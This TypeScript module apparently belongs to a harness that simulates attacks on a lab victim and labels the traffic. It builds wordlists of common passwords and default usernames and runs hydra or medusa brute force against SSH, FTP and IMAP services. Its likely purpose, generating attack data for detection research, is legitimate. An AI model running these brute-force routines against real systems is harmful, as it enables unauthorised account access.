/**
 * Credential-access steps: hydra or medusa brute force against sshd (and, in full scenarios,
 * FTP, IMAP and SMTP AUTH) with short wordlists, few tasks and a hard timeout; John the Ripper
 * against a hash file taken from the server.
 *
 * @module
 */
import { act } from "./actor.ts";
import type { AttackCtx, Step } from "./attacks.ts";

const PASSWORDS = [
  "123456",
  "password",
  "letmein",
  "qwerty",
  "admin",
  "changeme",
  "12345678",
  "iloveyou",
  "football",
  "baseball",
  "master",
  "shadow",
  "trustno1",
  "abc123",
];
const LOGINS = ["root", "admin", "test", "oracle", "ubuntu", "guest", "postgres", "git"];

/** Writes the attacker's user and password lists; the victim and its weak password included. */
export async function wordlists(c: AttackCtx): Promise<{ users: string; passwords: string }> {
  const r = c.plan.rng;
  const pw = [...PASSWORDS].sort(() => r.next() - 0.5).slice(0, 9);
  pw.splice(r.int(4, pw.length), 0, c.plan.victim.password);
  const users = `${c.dir}/users.txt`, passwords = `${c.dir}/passwords.txt`;
  await Deno.writeTextFile(
    users,
    [...LOGINS.slice(0, r.int(3, 5)), c.plan.victim.name].join("\n") + "\n",
  );
  await Deno.writeTextFile(passwords, pw.join("\n") + "\n");
  return { users, passwords };
}

async function brute(c: AttackCtx, service: string, port: number, only?: string): Promise<void> {
  const t = c.target(c.plan.srvIp), { users, passwords } = await wordlists(c);
  const tasks = String(c.plan.scenario.tools.bruteTasks);
  const userArg = only ? ["-l", only] : ["-L", users];
  const bound = Math.max(5, Math.min(c.left(), 90));
  if (c.plan.scenario.tools.bruteTool === "medusa" && service !== "smtp") {
    const m = service === "imap" ? "imap" : service;
    await act(c.atk, [
      "medusa",
      "-h",
      t,
      "-n",
      String(port),
      "-M",
      m,
      ...(only ? ["-u", only] : ["-U", users]),
      "-P",
      passwords,
      "-t",
      tasks,
      "-T",
      "1",
      "-F",
    ], bound);
    return;
  }
  await act(c.atk, [
    "hydra",
    ...userArg,
    "-P",
    passwords,
    "-t",
    tasks,
    "-w",
    "5",
    "-W",
    "1",
    "-I",
    "-f",
    "-s",
    String(port),
    `${service}://${t}`,
  ], bound);
}

/** The credential-access steps. */
export const CRED_STEPS: Step[] = [
  {
    name: "ssh_brute",
    label: "credential_access",
    families: [],
    targets: ["sshd"],
    maxS: 90,
    run: (c) => brute(c, "ssh", 22),
  },
  {
    name: "service_brute",
    label: "credential_access",
    families: [],
    targets: ["vsftpd", "dovecot"],
    maxS: 90,
    run: async (c) => {
      await brute(c, "ftp", 21, c.plan.victim.name);
      await brute(c, "imap", 143, c.plan.victim.name);
    },
  },
];
